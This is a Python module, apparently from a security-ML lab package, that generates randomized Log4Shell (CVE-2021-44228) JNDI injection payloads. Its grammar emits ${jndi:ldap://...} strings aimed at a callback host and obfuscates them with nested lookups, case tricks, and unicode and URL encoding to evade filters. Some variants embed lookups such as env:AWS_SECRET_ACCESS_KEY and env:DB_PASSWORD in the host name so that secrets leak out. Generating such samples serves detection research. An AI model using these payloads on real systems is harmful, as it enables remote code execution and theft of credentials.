"""Log4Shell (CVE-2021-44228 and its kin): JNDI lookups, plain and behind nested lookups."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «before»${«jndi»«colon»«protocol»«colon»//«host»/«path»}«after»
    «before»${«jndi»«colon»«protocol»«colon»//«host»/«path»}«after»
    «before»${«jndi»«colon»«protocol»«colon»//«host»/«path»}«after»
    «before»${«jndi»«colon»«protocol»«colon»//«host»/«path»}«after»
    «before»${«jndi»«colon»«protocol»«colon»//«host»«path»}«after»
    «before»${«jndi»«colon»«protocol»«colon»«host»/«path»}«after»
    «before»${«lookup»}${«jndi»«colon»«protocol»«colon»//«host»/«path»}
    «before»${«jndi»«colon»«protocol»«colon»${«lookup»}://«host»/«path»}
    «before»${ctx:«label»}${«jndi»«colon»«protocol»://«host»/«path»}«after»
    ${${«lookup»}${::-«lower:2»}}${«jndi»«colon»«protocol»://«host»/«path»}
before:
    «empty» «empty» «empty» «word» «label»/«int:1-9».«int:0-9» Mozilla/5.0 «n» '
after:
    «empty» «empty» «empty» «label» «int:1-9» ' "
host
    «callback»
    «callback»
    «callback»
    ${«lookup»}.«callback_host»
    ${«lookup»}.«hex:8».«callback_host»
    127.0.0.1#«callback_host»
    «callback_host»:«port»
    «callback_host»:«port»
    ${hostName}.«callback_host»
    ${env:«env»}.«callback_host»
    «hex:24».«callback_host»
    ${date:«lower:2»}.«callback_host»
    ${lower:«label»}.«callback_host»
path:
    a «lower:3» «alnum:6» Basic/Command/Base64/«alnum:16»= TomcatBypass/«label» «label»/«label» o=«label»,dc=«label»
    ${«lookup»} #«label» Deserialization/«label»/«n» Exploit «label».class serial/«label» poc «empty»
lookup:
    env:«env» sys:«property» java:version java:os java:vm hostName env:«env»:-«lower:3» sys:user.name
    docker:containerId k8s:podName main:0 web:rootDir bundle:application:«label» date:yyyy log4j:configLocation
    upper:«lower:1» map:«lower:4»
env:
    AWS_SECRET_ACCESS_KEY AWS_ACCESS_KEY_ID USER HOME PATH HOSTNAME JAVA_HOME DB_PASSWORD «upper:6» COMPUTERNAME
property:
    java.version os.name user.name user.home java.class.path os.arch «label».«label»
"""
)
_PROTOCOLS: Final = ("ldap", "ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http")


def _nested(text: str, rng: Random) -> str:
    """Spell some letters of a word through lookups that resolve to them."""
    share = rng.choice([0.2, 0.5, 1.0])
    return "".join(_letter(letter, rng) if rng.random() < share else letter for letter in text)


def _letter(letter: str, rng: Random) -> str:
    made_up = "".join(rng.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOP", k=rng.randint(1, 6)))
    return rng.choice(
        [
            f"${{lower:{letter.upper()}}}",
            f"${{lower:{letter}}}",
            f"${{upper:{letter}}}",
            f"${{::-{letter}}}",
            f"${{::-{letter}}}",
            f"${{{made_up}:-{letter}}}",
            f"${{env:{made_up}:-{letter}}}",
            f"${{sys:{made_up}:-{letter}}}",
            f"${{{made_up}:{made_up[::-1]}:-{letter}}}",
            f"${{date:'{letter}'}}",
            f"${{${{lower:{letter}}}:-{letter}}}" if rng.random() < 0.3 else f"${{:-{letter}}}",
        ]
    )


def _word(text: str, rng: Random) -> str:
    choice = rng.random()
    if choice < 0.45:
        return text
    if choice < 0.55:
        return text.upper() if rng.random() < 0.5 else text.capitalize()
    if choice < 0.65:
        at = rng.randrange(1, len(text))
        return f"{text[:at]}${{lower:{text[at:]}}}" if rng.random() < 0.5 else f"${{lower:{text[:at]}}}{text[at:]}"
    if choice < 0.7:
        return text.replace("i", "ı").replace("d", "${::-d}")
    return _nested(text, rng)


_GRAMMAR: Final = Grammar(
    {
        **BLOCKS,
        **_RULES,
        "jndi": lambda rng: _word("jndi", rng),
        "protocol": lambda rng: _word(rng.choice(_PROTOCOLS), rng),
        "colon": lambda rng: _letter(":", rng) if rng.random() < 0.12 else ":",
    }
)


def payload(rng: Random) -> str:
    """One JNDI lookup."""
    text = _GRAMMAR.generate(rng)
    if rng.random() < 0.06:
        text = text.replace("${", rng.choice(["\\u0024{", "$\\u007b", "%24%7b", "${${::-$}{::-{}"]), 1)
    return text
